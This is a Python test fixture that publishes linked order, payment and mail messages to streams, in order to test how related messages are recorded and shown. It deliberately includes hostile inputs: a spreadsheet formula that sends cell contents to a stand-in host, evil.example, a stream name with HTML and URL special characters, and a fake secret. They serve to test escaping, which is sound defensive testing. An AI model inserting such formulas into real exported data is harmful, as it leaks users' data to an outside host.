"""Conversations to look at: messages of several streams that name each other and share values."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from random import Random
from typing import Any, Final

from relatum.keys import KeyDefinition
from relatum.store import make_engine
from tests.support import declare_stream, delete_stream, publish_plain, record, unique_name
from tests.web.conftest import HOSTILE, TIME_US, World

TALK_KEYS: Final = [
    KeyDefinition("order_id"),
    KeyDefinition("card"),
    KeyDefinition("host"),
    KeyDefinition("id"),
    KeyDefinition("cause", names="id"),
    KeyDefinition("place", source=("header:shelf", "header:row")),
]

FORMULA: Final = """=HYPERLINK("http://evil.example/?x="&A1;"a")"""
SECRET: Final = "4711-secret"

HOUR_US: Final = 3_600_000_000

COMMON: Final = 230
"""Messages that have one host: more than are followed by default."""


@dataclass(frozen=True)
class Talks(World):
    """Conversations of `orders`, `payments` and `mails`, besides what a world has.

    At 0 of `orders` begins one: a payment named it 350 ms later, a mail named that after three hours; another order
    shares its order_id, a hostile one, and its card. Behind them lie `COMMON` messages of one host, and larger
    conversations: `order_id` is "talk-200", "talk-1000".
    """

    mails: str = ""


def _said(at_us: int, **values: Any) -> tuple[bytes, dict[str, Any]]:
    return b"said", values | {"relatum_time": TIME_US + at_us}


def _large(streams: list[str], count: int, chance: Random) -> dict[str, list[Any]]:
    """A conversation of so many messages: each after the first came from one of those before it."""
    held: dict[str, list[Any]] = {name: [] for name in streams}
    at_us = 0
    for n in range(count):
        at_us += chance.choice([900, 40_000, 700_000, 20 * HOUR_US if n % 50 == 49 else 3_000])
        cause = {} if not n else {"cause": f"{count}-{chance.randrange(max(0, n - 9), n)}"}
        message = _said(at_us, order_id=f"talk-{count}", id=f"{count}-{n}", card=f"card-{count}-{n // 7}", **cause)
        held[chance.choice(streams)].append(message)
    return held


@contextmanager
def talking(amqp_url: str, stream_url: str, database_url: str) -> Iterator[Talks]:
    """Publish and record them."""
    orders, payments, mails = unique_name("orders"), f'{unique_name("=pay")} "/<b>?#%41&ö', unique_name("mails")
    # Larger ones are in streams of usual names: the weight of a page is that of its names, too.
    large = [orders, mails, unique_name("refunds")]
    streams = list(dict.fromkeys([orders, payments, *large]))
    engine = make_engine(database_url)
    order = {"order_id": f"o-{HOSTILE}", "card": SECRET}
    held: dict[str, list[Any]] = {name: [] for name in streams} | {
        orders: [
            _said(0, id="a", shelf="a|b", row="7", **order),
            _said(900_000, id="d", **order),
            _said(0, order_id=FORMULA),
            _said(1, order_id=FORMULA, cause="nobody"),
            _said(5, large=1),
        ],
        payments: [_said(350_000, id="b", cause="a", **order), _said(2, order_id=FORMULA, shelf="a|b", row="7")],
        mails: [_said(3 * HOUR_US, id="c", cause="b")],
    }
    held[orders] += [_said(n, host="busy") for n in range(COMMON)]
    for count in (200, 1_000):
        for name, messages in _large(large, count, Random(count)).items():
            held[name] += messages
    try:
        for name in streams:
            declare_stream(amqp_url, name)
            publish_plain(amqp_url, name, held[name])
        record(amqp_url, engine, *streams, keys=TALK_KEYS)
        options = {"broker": amqp_url, "database": database_url, "stream_url": stream_url}
        yield Talks(options, orders, payments, 0, placed="", mails=mails)
    finally:
        engine.dispose()
        for name in streams:
            delete_stream(amqp_url, name)
